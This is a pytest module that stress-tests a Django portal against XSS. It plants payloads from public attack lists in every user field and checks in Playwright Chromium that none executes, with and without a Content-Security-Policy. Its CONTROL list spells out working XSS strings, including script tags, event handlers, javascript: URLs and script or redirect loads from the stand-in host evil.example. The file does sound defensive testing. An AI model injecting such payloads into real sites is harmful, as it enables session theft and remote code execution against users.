"""Attacks from public lists in every field that people type into: nothing of them runs in a page, in the admin, in a
letter or in a feed, and nothing stands there that could; under the portal's policy, and in a browser that knows none.

`make test` puts each attack alone into a question or into an answer, and some into every other field; `make stress`
each alone into each field, and all of them together with others.
"""

import os
from collections import defaultdict
from collections.abc import Callable, Iterator

import pytest
from django.db import connection
from django.test import override_settings
from playwright.sync_api import Browser

from accounts.models import User
from tests.hostile import crowd, fields
from tests.hostile.drawings import Drawing, document
from tests.hostile.lists import ALL, GATHERED, LINKS
from tests.hostile.story import Story
from tests.hostile.watching import Watch, watching
from tests.prepare import copy_database
from tests.walks.conftest import Portal

pytestmark = pytest.mark.walk
IS_FULL = os.environ.get("PROSVET_STRESS") == "1"
# A form takes no NUL.
PRINTED = [payload.replace("\0", "") for payload in ALL]
KINDS = {**fields.TYPED, **fields.BESIDES}
# How many attacks each field of the story gets, one at a telling, always another than the field before it: under the
# portal's policy. At full size all of them without any, some under it too (what a policy lets run would run without it
# as well), in parts that several processes share.
TOLD, PARTS, SHOWN_BOTH = (len(ALL), 24, 8) if IS_FULL else (1, 1, 1)
# So many together where there is room for them: each in each longer field after so many tellings.
BUNCH = 10
TOLD_TOGETHER, PARTS_TOGETHER = (-(-len(ALL) // BUNCH), 8) if IS_FULL else (1, 1)
# Of questions and answers one page in so many is drawn under the policy too, and one list and feed in so many.
OBEYED, LISTED = (1, 1) if IS_FULL else (12, 9)


@pytest.fixture(scope="module")
def story(portal: Portal, tmp_path_factory: pytest.TempPathFactory, django_db_blocker: object) -> Iterator[Story]:
    """Told in a copy of the demo, in this process."""
    own = tmp_path_factory.mktemp("hostile") / "prosvet.sqlite3"
    copy_database(portal.data / "prosvet.sqlite3", own)
    before = connection.settings_dict["NAME"]
    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=str(portal.data / "media")):  # type: ignore[attr-defined]
        connection.close()
        connection.settings_dict["NAME"] = str(own)
        yield Story(User.objects.get(email="admin@demo.example"))
        connection.close()
        connection.settings_dict["NAME"] = before


@pytest.fixture(scope="module")
def unguarded(chrome: Browser) -> Iterator[Watch]:
    with watching(chrome, obeys=False) as watch:
        yield watch


@pytest.fixture(scope="module")
def guarded(chrome: Browser) -> Iterator[Watch]:
    with watching(chrome, obeys=True) as watch:
        yield watch


def mark(field: str) -> str:
    """Latin: an address takes nothing else."""
    return f"mark{list(KINDS).index(KINDS[field].made_of or field)}x"


def marked(field: str) -> str:
    return f"{mark(field)} и ещё несколько слов"


def attack(number: int) -> Callable[[str], str]:
    """The words of one telling: each field another attack, as much of it as fits, long enough for its form."""
    step = max(1, len(ALL) // len(KINDS))

    def words(field: str) -> str:
        payload = PRINTED[(number + list(KINDS).index(field) * step) % len(PRINTED)][: KINDS[field].most - 20]
        return payload if len(payload) > 20 else f"{payload} и ещё слова"

    return words


def bunch(number: int) -> Callable[[str], str]:
    """The words of one telling: each field the next attacks together, as many as fit."""
    step = max(1, len(ALL) // len(KINDS))

    def words(field: str) -> str:
        first = number * BUNCH + list(KINDS).index(field) * step
        some = [PRINTED[place % len(PRINTED)] for place in range(first, first + BUNCH)]
        return "\n\n".join([*some, "и ещё слова"])[: KINDS[field].most - 20]

    return words


def test_the_lists_are_there() -> None:
    assert sum(map(len, GATHERED.values())) > 500
    assert len(ALL) == len(set(ALL)) > 600


CONTROL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<script src=http://evil.example/x.js></script>",
    "<img src=http://evil.example/x.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<div style='background:url(http://evil.example/)'>x</div>",
    "<script>nothing_of_that_name()</script>",
    "<p onmouseover=alert(1)>x</p>",
]


@pytest.mark.parametrize("html", CONTROL)
def test_the_browser_notices(unguarded: Watch, html: str) -> None:
    finds = unguarded.look(document("control", f"<main>{html}</main>", "page"))
    unguarded.rest()
    assert finds


def test_what_runs_is_noticed_by_its_running(unguarded: Watch, guarded: Watch) -> None:
    html = f"<main>{CONTROL[0]}{CONTROL[1]}</main>"
    policy = {"Content-Type": "text/html", "Content-Security-Policy": "script-src 'self'"}
    drawn = Drawing("control", "/drawn/control", html.encode(), policy, 200)
    assert len([one for one in unguarded.look(drawn) if "RAN alert" in one]) >= 2
    refused = guarded.look(drawn)
    assert not [one for one in refused if "RAN" in one]
    assert len([one for one in refused if "Content Security Policy" in one]) >= 2


def test_every_field_is_read_where_the_table_says(story: Story) -> None:
    """Else the next test would attack what nobody sees."""
    read: dict[str, str] = defaultdict(str)
    for drawn in story.tell(marked):
        read[drawn.name] += drawn.body.decode(errors="replace")
    missing = [f"{field} in {name}" for field in KINDS for name in KINDS[field].shown if mark(field) not in read[name]]
    assert missing == []


@pytest.mark.stress
@pytest.mark.timeout(3600 if IS_FULL else 300)
@pytest.mark.parametrize("part", range(PARTS))
def test_attacks_in_every_field(story: Story, unguarded: Watch, guarded: Watch, part: int) -> None:
    finds = []
    for number in range(part, TOLD, PARTS):
        for drawn in story.tell(attack(number), to_admins=IS_FULL or number == 0):
            obeys = has_policy(drawn) and (number % SHOWN_BOTH == 0 if IS_FULL else number == 0)
            finds += guarded.look(drawn) if obeys else []
            finds += unguarded.look(drawn) if IS_FULL or not obeys or drawn.kind == "admin" else []
    assert finds + guarded.rest() + unguarded.rest() == []


@pytest.mark.stress
@pytest.mark.timeout(3600 if IS_FULL else 300)
@pytest.mark.parametrize("part", range(PARTS_TOGETHER))
def test_many_attacks_together_in_every_field(story: Story, unguarded: Watch, part: int) -> None:
    """One may hide the next, which is why each stands alone too."""
    finds = []
    for number in range(part, TOLD_TOGETHER, PARTS_TOGETHER):
        for drawn in story.tell(bunch(number)):
            finds += unguarded.look(drawn)
    assert finds + unguarded.rest() == []


@pytest.mark.stress
@pytest.mark.timeout(1200 if IS_FULL else 300)
def test_each_attack_alone_in_questions_and_answers(story: Story, unguarded: Watch, guarded: Watch) -> None:
    finds = []
    asked, answered = (ALL, ALL) if IS_FULL else (ALL[::2], ALL[1::2])
    answered = answered + ["\n\n".join(LINKS[first : first + 4]) for first in range(0, len(LINKS), 4)]
    for number, drawn in enumerate(crowd.draw(story, asked, answered, every=LISTED)):
        finds += unguarded.look(drawn)
        finds += guarded.look(drawn) if has_policy(drawn) and number % OBEYED == 0 else []
    assert finds + guarded.rest() + unguarded.rest() == []


def has_policy(drawn: Drawing) -> bool:
    """Chromium's viewer of feeds breaks ours by itself; programs for letters and news know of none."""
    return drawn.kind in ("page", "admin")
